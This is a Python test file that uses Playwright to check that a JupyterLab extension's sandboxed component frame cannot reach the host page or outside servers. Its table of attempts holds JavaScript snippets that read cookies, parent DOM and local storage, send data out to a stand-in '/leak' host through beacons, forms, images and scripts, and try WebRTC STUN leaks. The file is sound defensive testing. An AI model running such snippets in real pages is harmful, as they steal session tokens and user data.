"""What generated code can reach from its frame: nothing. The matrix of attempts, each made for real in JupyterLab."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Error as PlaywrightError

from .conftest import Host
from .jupyter import Notebook, until

pytestmark = pytest.mark.asyncio(loop_scope="session")

ATTEMPTS = {
    "fetch of the server's API": "await fetch(BASE + '/api/contents')",
    "fetch of our API": "await fetch(BASE + '/overskill-nb/api/status')",
    "WebSocket to the server": """await new Promise((done, fail) => {
        const socket = new WebSocket(BASE.replace('http', 'ws') + '/api/events/subscribe');
        socket.onopen = done; socket.onerror = () => fail(new Error('refused')); })""",
    "WebSocket to our endpoint": """await new Promise((done, fail) => {
        const socket = new WebSocket(BASE.replace('http', 'ws') + '/overskill-nb/api/socket');
        socket.onopen = done; socket.onerror = () => fail(new Error('refused')); })""",
    "cookies of the page": "if (!document.cookie.includes('_xsrf')) throw new Error('none')",
    "DOM of the page": "window.top.document.body.innerHTML",
    "DOM of the outer frame": "window.parent.document.body.innerHTML",
    "the page's globals": "window.top.jupyterapp.commands",
    "local storage of the page": "if (!Object.keys(window.parent.localStorage).length) throw new Error('none')",
    "navigating the top window": "window.top.location = BASE + '/api/status'; throw new Error('blocked later')",
    "a pop-up": "if (!window.open(ELSEWHERE + '/leak')) throw new Error('blocked')",
    "an image from elsewhere": """await new Promise((done, fail) => {
        const image = new Image(); image.onload = done; image.onerror = () => fail(new Error('refused'));
        image.src = ELSEWHERE + '/leak'; })""",
    "a script from elsewhere": """await new Promise((done, fail) => {
        const script = document.createElement('script');
        script.onload = done; script.onerror = () => fail(new Error('refused'));
        script.src = ELSEWHERE + '/leak'; document.head.append(script); })""",
    "a frame within": """await new Promise((done, fail) => {
        const frame = document.createElement('iframe'); frame.src = ELSEWHERE + '/leak';
        document.addEventListener('securitypolicyviolation', () => fail(new Error('refused')));
        frame.onload = () => done(); document.body.append(frame);
        setTimeout(() => fail(new Error('nothing')), 1500); })""",
    "a beacon": "if (!navigator.sendBeacon(ELSEWHERE + '/leak', 'x')) throw 1; throw new Error('sent?')",
    "WebRTC": "new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:1'}]})",
    "globals of a blank frame within": """const frame = document.createElement('iframe'); document.body.append(frame);
        new frame.contentWindow.RTCPeerConnection()""",
    "a form sent away": """const form = document.createElement('form'); form.action = ELSEWHERE + '/leak';
        form.method = 'get'; document.body.append(form); form.submit(); await new Promise(r => setTimeout(r, 500));
        throw new Error('still here')""",
}


async def opened(host: Host, folder: str) -> Notebook:
    notebook = await host.open(
        folder,
        "import overskill_nb as ov\napp = ov.App('demo')",
        "%%component Victim\nexport default function Victim() { return <b id='victim'>here</b> }",
    )
    for number in (0, 1):
        outcome = await notebook.run_cell(number)
        assert outcome.ok, outcome.error
    return notebook


class Elsewhere:
    """A server that only counts who reached it: what the browser really sent, whatever its own events say."""

    def __init__(self) -> None:
        self.reached: list[str] = []
        self.url = ""

    async def _answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reached.append((await reader.readline()).decode().strip())
        writer.write(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
        await writer.drain()
        writer.close()

    @classmethod
    @asynccontextmanager
    async def start(cls) -> AsyncIterator[Elsewhere]:
        there = cls()
        server = await asyncio.start_server(there._answer, "127.0.0.1", 0)
        there.url = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        try:
            yield there
        finally:
            server.close()


async def test_no_attempt_reaches_anything(lab: Host) -> None:
    notebook = await opened(lab, "matrix")
    async with Elsewhere.start() as elsewhere:
        reached = []
        for name, attempt in ATTEMPTS.items():
            frame = await notebook.frame_with("#victim")
            names = f"const BASE = {lab.server.url!r}, ELSEWHERE = {elsewhere.url!r};"
            code = f"async () => {{ {names} try {{ {attempt} }} catch (error) {{ return 'no' }} return 'yes' }}"
            try:
                answer = await frame.evaluate(code)
            except PlaywrightError:  # the attempt took its own frame away, which then starts anew
                answer = "no"
            if answer != "no":
                reached.append(name)
        assert not reached
        assert notebook.page.url.startswith(f"{lab.server.url}/lab/")
        frame = await notebook.frame_with("#victim")
        assert await frame.evaluate("self.origin") == "null"
        await notebook.page.wait_for_timeout(500)
        assert not elsewhere.reached
        assert len(notebook.page.context.pages) == 1
        # The page itself, which the sandbox keeps apart, does reach it: the counting works.
        await notebook.page.evaluate("url => fetch(url, {mode: 'no-cors'})", elsewhere.url)
        assert len(elsewhere.reached) == 1


async def test_a_frame_that_navigates_itself_sends_nothing(lab: Host) -> None:
    notebook = await opened(lab, "navigate")
    async with Elsewhere.start() as elsewhere:
        frame = await notebook.frame_with("#victim")
        await frame.evaluate("url => { setTimeout(() => { location.href = url + '/leak?secret' }, 0) }", elsewhere.url)
        await notebook.page.wait_for_timeout(1500)
        assert not elsewhere.reached


WEBRTC_WITHIN = """async (stun) => {
    const frame = document.createElement('iframe');
    frame.srcdoc = `<script>
        const peer = new RTCPeerConnection({iceServers: [{urls: '${stun}'}]});
        peer.createDataChannel('x'); peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    </` + 'script>';
    HOW
}"""


class Datagrams(asyncio.DatagramProtocol):
    def __init__(self) -> None:
        self.count = 0

    def datagram_received(self, _data: bytes, _address: object) -> None:
        self.count += 1


@pytest.mark.parametrize(
    "how",
    [
        "document.body.append(frame)",
        "document.body.innerHTML += frame.outerHTML",
        "document.body.attachShadow({mode: 'closed'}).append(frame)",
        "document.documentElement.replaceWith(frame)",
        "document.write(frame.outerHTML)",
    ],
)
async def test_a_frame_within_does_not_bring_webrtc_back(lab: Host, how: str) -> None:
    transport, heard = await asyncio.get_running_loop().create_datagram_endpoint(Datagrams, local_addr=("127.0.0.1", 0))
    try:
        stun = f"stun:127.0.0.1:{transport.get_extra_info('sockname')[1]}"
        notebook = await opened(lab, f"webrtc-{abs(hash(how))}")
        # Outside of the sandbox the same frame does reach it: the counting works.
        await notebook.page.evaluate(WEBRTC_WITHIN.replace("HOW", "document.body.append(frame)"), stun)

        async def came() -> bool:
            return heard.count > 0

        async def over() -> bool:
            heard.count = 0
            await asyncio.sleep(1.5)
            return heard.count == 0

        await until(came)
        await notebook.page.evaluate("document.querySelector('body > iframe').remove()")
        await until(over)
        frame = await notebook.frame_with("#victim")
        await frame.evaluate(WEBRTC_WITHIN.replace("HOW", how), stun)
        await notebook.page.wait_for_timeout(1500)
        assert heard.count == 0
    finally:
        transport.close()


async def test_an_origin_on_the_list_is_reached_and_no_other(lab: Host) -> None:
    notebook = await opened(lab, "allowed")
    async with Elsewhere.start() as listed, Elsewhere.start() as other:
        assert (await notebook.run(f"app.allow({listed.url!r})")).ok
        fetch = "url => fetch(url, {mode: 'no-cors'}).catch(() => null)"

        async def reached() -> bool:
            # The frame starts again with the new list; the old one may still be there, or just going.
            frame = await notebook.frame_with("#victim")
            with contextlib.suppress(PlaywrightError, asyncio.TimeoutError):
                await asyncio.wait_for(frame.evaluate(fetch, listed.url), 10)
            return bool(listed.reached)

        await until(reached)
        frame = await notebook.frame_with("#victim")
        await frame.evaluate(fetch, other.url)
        assert len(listed.reached) == 1
        assert not other.reached
